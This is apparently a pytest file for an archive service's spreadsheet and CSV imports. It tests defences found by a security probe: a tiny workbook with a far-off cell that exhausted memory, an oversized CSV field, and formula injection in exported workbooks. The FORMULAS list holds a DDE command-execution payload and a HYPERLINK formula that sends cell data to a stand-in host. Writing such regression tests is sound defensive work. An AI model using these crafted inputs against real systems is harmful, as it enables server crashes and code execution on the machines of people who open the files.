"""The one reader of uploaded workbooks and CSV files (archive_service/workbooks.py), as issue 40's probe used
it: a 1.8 KB .xlsx with one cell at XFD1048576 aborted the server through the register and the 卷内目录
imports (Calamine allocated a slot per cell up to it); a CSV cell over 131,072 characters gave a 500 on all
six imports. The sheet's reach is bounded before it is read, and every import names the problem."""

import io
import re
import zipfile
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook

from archive_service import workbooks
from archive_service.errors import ArchiveError
from archive_service.transfers import catalogues, register
from archive_service.transfers.campaign import QUOTA_HEADERS
from tests.archive_service.test_server_crash import _kill, _serve, _token
from tests.archive_service.test_transfers import as_csv, as_xlsx, row


def _workbook(headers, far_cell: str | None = None, rows: list[list[object]] = ()) -> bytes:  # type: ignore[assignment]
    book = Workbook()
    sheet = book.active
    sheet.append(list(headers))
    for r in rows:
        sheet.append(r)
    if far_cell:
        sheet[far_cell] = "x"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _sheet_xml(body: str, prefix: str = "") -> bytes:
    p = f"{prefix}:" if prefix else ""
    ns = f' xmlns{":" + prefix if prefix else ""}="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return f"<{p}worksheet{ns}><{p}sheetData>{body}</{p}sheetData></{p}worksheet>".encode()


def _with_sheet(xml: bytes) -> bytes:
    """The register template with its first sheet's XML replaced."""
    source = zipfile.ZipFile(io.BytesIO(as_xlsx([row(1)])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, xml if info.filename == "xl/worksheets/sheet1.xml" else source.read(info))
    return out.getvalue()


def test_the_probe_workbook_is_small_and_refused_with_the_far_cell_named():
    data = _workbook(register.HEADERS, "XFD1048576")
    assert len(data) < 6000  # what the probe sent: a few KB (openpyxl's parts; the probe's was 1.8 KB)
    with pytest.raises(ArchiveError) as refused:
        register.read_sheet(data, "名册.xlsx")
    assert refused.value.code == "file.too_wide" and refused.value.field == "file"
    assert "XFD1048576" in refused.value.message, refused.value.message


@pytest.mark.parametrize(
    ("far_cell", "code"),
    [("T1048576", "file.too_many_rows"), ("IW1", "file.too_wide"), ("IV20000", "file.too_large")],
)
def test_a_far_row_or_column_is_refused_before_calamine_allocates_it(far_cell, code):
    # T1048576: 20 columns down to the last row took 657 MB before; IV20000: 256 × 20,000 cells, over the budget.
    with pytest.raises(ArchiveError) as refused:
        register.read_sheet(_workbook(catalogues.HEADERS, far_cell), "目录.xlsx", catalogues.HEADERS, "卷内目录")
    assert refused.value.code == code and far_cell in refused.value.message, refused.value.message


def test_every_way_a_sheet_can_place_a_cell_is_counted():
    def extent(body: str, prefix: str = "") -> tuple[int, int]:
        e = workbooks.sheet_extent(io.BytesIO(_sheet_xml(body, prefix)), 10**9)
        return e.rows, e.columns

    assert extent('<row r="3"><c r="B3"><v>1</v></c></row>') == (3, 2)
    assert extent('<row r="7"><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c></row>') == (7, 3)  # no r on cells
    assert extent("<row><c><v>1</v></c></row>" * 4) == (4, 1)  # no r on rows either
    assert extent('<x:row r="9"><x:c r="AA9" t="s"><x:v>0</x:v></x:c></x:row>', "x") == (9, 27)  # prefixed
    assert extent('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1048576" s="3"/></row>') == (1, 1)  # style, no value
    assert extent('<row r="1"><c t="s" s="2" r="$C$4"><v>1</v></c></row>') == (4, 3)  # r after other attributes


def test_cells_without_references_are_bounded_too():
    cells = "<c><v>1</v></c>" * 300  # one row, 300 cells, not a reference among them
    with pytest.raises(ArchiveError) as refused:
        register.read_sheet(_with_sheet(_sheet_xml(f"<row>{cells}</row>")), "名册.xlsx")
    assert refused.value.code == "file.too_wide" and "IW1" in refused.value.message  # stopped at column 257


def test_reading_stops_at_the_bound_however_much_the_sheet_holds():
    class Counting(io.BytesIO):
        read_bytes = 0

        def read(self, size: int | None = -1) -> bytes:
            chunk = super().read(size)
            Counting.read_bytes += len(chunk)
            return chunk

    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 400_001))
    sheet = Counting(_sheet_xml(rows))
    extent = workbooks.sheet_extent(sheet, 21_000)
    assert extent.rows == 21_001 and Counting.read_bytes < 3 << 20 < len(sheet.getvalue())


def test_an_ods_or_xlsb_in_an_xlsx_name_is_not_read():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    with pytest.raises(ArchiveError) as refused:
        register.read_sheet(out.getvalue(), "名册.xlsx")
    assert refused.value.code == "file.type" and "Excel" in refused.value.message


def test_a_real_register_and_its_formatted_blank_rows_still_read():
    data = as_xlsx([row(n) for n in range(1, 301)])
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    # Borders drawn down to row 20,000 (empty styled cells) and a dimension claiming the whole sheet.
    styled = "".join(f'<row r="{n}"><c r="A{n}" s="0"/><c r="T{n}" s="0"/></row>' for n in range(400, 20_000, 50))
    xml = xml.replace(b"</sheetData>", styled.encode() + b"</sheetData>")
    xml = xml.replace(b'<dimension ref="A1:T301"/>', b'<dimension ref="A1:XFD1048576"/>')
    rows = register.read_sheet(_with_sheet(xml), "名册.xlsx")
    assert len(rows) == 300 and rows[-1][1]["姓名"] == "移交300"


LONG = "长" * 131_073  # one character over the csv module's field limit


@pytest.mark.parametrize(
    ("what", "read"),
    [
        ("register", lambda data: register.read_sheet(data, "名册.csv")),
        ("catalogue", lambda data: register.read_sheet(data, "目录.csv", catalogues.HEADERS, "卷内目录")),
        ("quotas", lambda data: register.read_sheet(data, "人数.csv", QUOTA_HEADERS, "核准移交人数表")),
        ("climate", lambda data: workbooks.csv_rows(data, ("时间", "温度", "湿度"))),
    ],
)
def test_a_csv_cell_over_the_field_limit_is_named_by_its_line(what, read):
    data = f"时间,温度,湿度\n1,2,3\n3,{LONG},4\n".encode()
    with pytest.raises(ArchiveError) as refused:
        read(data)
    assert refused.value.code == "file.cell_too_long" and "第 3 行" in refused.value.message, refused.value.message


def test_a_short_csv_row_reads_as_empty_cells_not_a_crash():
    rows = workbooks.csv_rows("时间,温度,湿度\n2026-01-01 09:00,18\n".encode(), ("时间", "温度", "湿度"))
    assert rows == [(2, {"时间": "2026-01-01 09:00", "温度": "18", "湿度": ""})]


@pytest.mark.served
@pytest.mark.parametrize("engine", ["sqlite"], indirect=True)
def test_the_probe_workbook_through_every_import_of_a_running_server(client, login, tmp_path):
    """The attack as it was made: against `archive serve`, the workbook posted to the register, the 卷内目录
    and the quotas imports (API and page), and a CSV with a 131,073-character cell to all six imports. The
    server answers each with its 4xx naming the file, stays up, and still takes a good register."""
    far = _workbook(register.HEADERS, "XFD1048576")
    long_csv = as_csv([row(1, 缺失材料=LONG, 缺失材料证明="是")])
    proc, url = _serve(tmp_path / "serve.log", workers=1)
    try:
        clerk, archivist = _token(url, "clerk"), _token(url, "archivist")
        with httpx.Client(base_url=url, timeout=60) as c:
            organisations = c.get("/api/organisations", headers=clerk).json()
            enterprise = [o for o in organisations if o["kind"] == "enterprise"][4]["id"]
            good = c.post(
                "/api/transfers", data={"enterprise_id": enterprise}, headers=clerk,
                files={"file": ("名册.csv", as_csv([row(1)]), "text/csv")},
            )  # fmt: skip
            assert good.status_code == 201, good.text
            batch = good.json()["id"]
            room = c.get("/api/shelving/rooms", headers=archivist).json()[0]["id"]
            imports = [
                ("/api/transfers", {"enterprise_id": enterprise}, clerk),
                (f"/api/transfers/{batch}/catalogue", {}, clerk),
                ("/api/transfers/campaign/quotas", {}, clerk),
                (f"/api/shelving/rooms/{room}/readings/import", {}, archivist),
                ("/api/shelving/projections/import", {}, archivist),
            ]
            for path, form, who in imports:
                for name, data in (("far.xlsx", far), ("long.csv", long_csv)):
                    if "xlsx" in name and "shelving" in path:
                        continue  # CSV-only imports
                    r = c.post(path, data=form, files={"file": (name, data, "application/octet-stream")}, headers=who)
                    assert r.status_code in (413, 422) and r.json()["field"] == "file", (path, name, r.text)
                    assert ("XFD1048576" if name == "far.xlsx" else "131072") in r.json()["message"], r.text
                    assert c.get("/healthz").status_code == 200
            # The page forms (cookie, same origin): the refusal is shown on the page, the server lives on.
            page = httpx.Client(base_url=url, timeout=60, headers={"origin": url})
            page.cookies.set("archive_session", clerk["authorization"].split()[1])
            for path, form in (("/transfers/campaign/quotas", {}), ("/transfers", {"enterprise_id": enterprise})):
                r = page.post(path, data=form, files={"file": ("far.xlsx", far, "application/octet-stream")})
                assert r.status_code in (200, 413, 422) and "XFD1048576" in r.text, (path, r.status_code)
            # The sixth import: a register pasted on the page (Latin letters: 131,073 Chinese characters
            # URL-encoded pass the 1 MB a form field may hold, refused in Chinese before the register is read).
            typed = as_csv([row(1, 缺失材料="x" * 131_073, 缺失材料证明="是")]).decode()
            r = page.post("/transfers/pasted", data={"enterprise_id": enterprise, "rows": typed})
            assert r.status_code in (200, 422) and "131072" in r.text, r.status_code
            r = page.post("/transfers/pasted", data={"enterprise_id": enterprise, "rows": long_csv.decode()})
            assert r.status_code == 400 and "超过 1 MB" in r.text and "parsing" not in r.text, r.status_code
            page.close()
            again = c.post(
                "/api/transfers", data={"enterprise_id": enterprise}, headers=clerk,
                files={"file": ("名册.xlsx", as_xlsx([row(2)]), "application/octet-stream")},
            )  # fmt: skip
            assert again.status_code == 201, again.text
    finally:
        _kill(proc)
    assert "Traceback" not in (tmp_path / "serve.log").read_text()


FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"点此核对")', "=cmd|' /C calc'!A0", "=1+2"]


def test_text_that_looks_like_a_formula_is_written_as_text():
    """Issue 40 (Medium): what we export is data. A name typed as a formula stays the text it is in Excel."""
    from openpyxl import load_workbook

    book = Workbook()
    book.active.append(["姓名", *FORMULAS, 42])
    opened = load_workbook(io.BytesIO(workbooks.workbook_bytes(book))).active
    cells = list(opened.iter_rows(values_only=False))[0]
    assert [c.value for c in cells] == ["姓名", *FORMULAS, 42]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n"]


def test_no_module_saves_a_workbook_but_through_workbook_bytes():
    """One place writes .xlsx files, so no export can forget the rule above."""
    root = Path(__file__).resolve().parents[2] / "archive_service"
    saving = re.compile(r"\b(book|wb|workbook|sheet)\.save\(")
    found = [
        f"{path.relative_to(root)}:{n}"
        for path in root.rglob("*.py")
        if path.name != "workbooks.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if saving.search(line)
    ]
    assert found == []


def test_a_display_name_typed_as_a_formula_reaches_the_auditors_register_as_text(client, login):
    """The probe's case: a display name that is a DDE formula, on every line of the 利用登记 the auditor exports."""
    from openpyxl import load_workbook
    from sqlalchemy import update

    from archive_service import db
    from archive_service.auth.models import User

    with db.transaction() as session:
        session.execute(update(User).where(User.username == "approver").values(display_name=FORMULAS[1]))
    login("approver")  # a login, on the log under that name
    exported = client.get("/api/audit/log.xlsx", headers=login("auditor"))
    assert exported.status_code == 200, exported.text[:300]
    sheet = load_workbook(io.BytesIO(exported.content)).active
    named = [row[2] for row in sheet.iter_rows(min_row=2) if row[2].value == FORMULAS[1]]
    assert named and all(c.data_type == "s" for c in named)
